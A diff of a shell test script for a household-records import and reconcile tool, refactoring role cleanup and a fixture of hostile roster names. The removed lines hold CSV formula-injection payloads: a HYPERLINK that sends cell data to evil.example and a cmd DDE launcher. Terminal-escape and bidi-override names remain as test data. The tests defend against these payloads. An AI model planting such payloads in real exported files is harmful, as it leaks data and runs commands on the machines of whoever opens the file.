@@ -43,7 +43,9 @@ tmp=$(mktemp -d)
 cleanup() {
 	db_psql_super -c "DELETE FROM eduaid.household WHERE household_no LIKE 'OUT%$T'" \
 		>/dev/null 2>&1 || true
-	db_psql_super -c "DROP ROLE IF EXISTS t44_nobody$T" >/dev/null 2>&1 || true
+	db_psql_super -c "REVOKE ALL ON FUNCTION eduaid.schema_level() FROM t44_nobody$T;
+	    REVOKE ALL ON SCHEMA eduaid FROM t44_nobody$T; DROP ROLE IF EXISTS t44_nobody$T" \
+		>/dev/null 2>&1 || true
 	rm -rf -- "$tmp"
 }
 trap cleanup EXIT
@@ -177,28 +179,36 @@ tap_is "$?:$(grep -c 'No space left on device' rp.err):$(test -c /dev/full && ec
 rp >/dev/full
 tap_is "$?:$(grep -c 'No space left on device' rp.err)" "2:1" "report to a full standard output: exit 2, ENOSPC told"
 # a login the reports are not granted to: the report fails after -o
-db_psql_super -c "CREATE ROLE t44_nobody$T LOGIN; GRANT USAGE ON SCHEMA eduaid TO t44_nobody$T" >/dev/null
+db_psql_super -c "CREATE ROLE t44_nobody$T LOGIN; GRANT USAGE ON SCHEMA eduaid TO t44_nobody$T;
+    GRANT EXECUTE ON FUNCTION eduaid.schema_level() TO t44_nobody$T" >/dev/null
 echo kept >kept.csv
 "$bin" -U "t44_nobody$T" report subsidy --year 2026 -o kept.csv 2>rp.err
-tap_is "$?:$(cat kept.csv)" "2:kept" "a report that fails keeps the file that was at -o FILE"
-tap_diag "$(cat rp.err)"
+tap_is "$?:$(cat kept.csv):$(grep -c 'report_subsidy' rp.err)" "2:kept:1" \
+	"a report that fails (its function refused) keeps the file that was at -o FILE"
+tap_is "$(compgen -G '.kept.csv.*' | wc -l)" 0 "... and leaves no temporary file"
 
 # ---- a roster with hostile names, reconciled -----------------------------------------
 idno() { db_psql_super -c "SELECT '$1' || eduaid.id_check_digit('$1')"; }
-H1=$(idno "42032519700101${T: -3}")
-H2=$(idno "42032519700102${T: -3}")
-H3=$(idno "42032519700103${T: -3}")
-M1=$(idno "42032520150101${T: -3}")
-M2=$(idno "42032520150102${T: -3}")
-M3=$(idno "42032520150103${T: -3}")
+for k in 1 2 3 4 5 6; do
+	H[k]=$(idno "4203251970010$k${T: -3}")
+	M[k]=$(idno "4203252015010$k${T: -3}")
+done
 ESCNAME=$'\e]0;pwned\a李四'
 C1NAME=$'a\xc2\x9b2J\b\bb'
 BIDINAME=$'\xe2\x80\xaecba'
+# row K NAME: household R<K>$T headed by NAME (CSV-quoted), one member
+row() {
+	local q=${2//\"/\"\"}
+	echo "R$1$T,420325100,420325100001,\"$q\",${H[$1]},2,学生$1,${M[$1]},child,primary"
+}
 {
 	echo "household_no,township,village,head_name,head_id_number,family_size,member_name,member_id_number,relation,stage"
-	echo "R1$T,420325100,420325100001,\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"点击核实\"\")\",$H1,2,-2+3,$M1,child,primary"
-	echo "R2$T,420325100,420325100001,@SUM(1+1),$H2,2,+cmd|' /C calc'!A0,$M2,child,primary"
-	echo "R3$T,420325100,420325100001,$ESCNAME,$H3,2,$C1NAME$BIDINAME,$M3,child,primary"
+	row 1 "$F1"
+	row 2 "$F2"
+	row 3 "$F3"
+	row 4 "$F4"
+	row 5 "$ESCNAME"
+	row 6 "$C1NAME$BIDINAME"
 } >roster.csv
 "$bin" -U demo_clerk import roster roster.csv >import.out 2>import.err
 imp=$(sed -n 's/^import //p' import.out)
@@ -208,11 +218,11 @@ if [[ -z $imp ]]; then
 fi
 "$bin" -U demo_clerk reconcile "$imp" --csv rec.csv >rec.out 2>rec.err
 tap_is "$?" 1 "reconcile finds the roster's households missing from eduaid (exit 1)"
-tap_is "$(py rec.csv utf-8-sig "sorted(r[4] for r in rows[1:] if r[3] in ('R1$T', 'R2$T') and r[4] != '')")" \
+tap_is "$(py rec.csv utf-8-sig "sorted(r[4] for r in rows[1:] if r[3] in ('R1$T', 'R2$T', 'R3$T', 'R4$T'))")" \
 	"$(python3 -c "import os; print(sorted(\"'\" + v for v in (os.environ['F1'], os.environ['F2'], os.environ['F3'], os.environ['F4'])))")" \
 	"reconcile --csv: the roster's formula names get an apostrophe"
 "$bin" -U demo_clerk reconcile "$imp" --csv rec8.csv --encoding utf-8-nobom >/dev/null 2>&1
-tap_is "$(py rec8.csv utf-8 "sorted(r[4] for r in rows[1:] if r[3] in ('R1$T', 'R2$T') and r[4] != '')")" \
+tap_is "$(py rec8.csv utf-8 "sorted(r[4] for r in rows[1:] if r[3] in ('R1$T', 'R2$T', 'R3$T', 'R4$T'))")" \
 	"$(python3 -c "import os; print(sorted(os.environ[v] for v in ('F1', 'F2', 'F3', 'F4')))")" \
 	"reconcile --csv --encoding utf-8-nobom: as they are"
 echo old >ctarget.csv
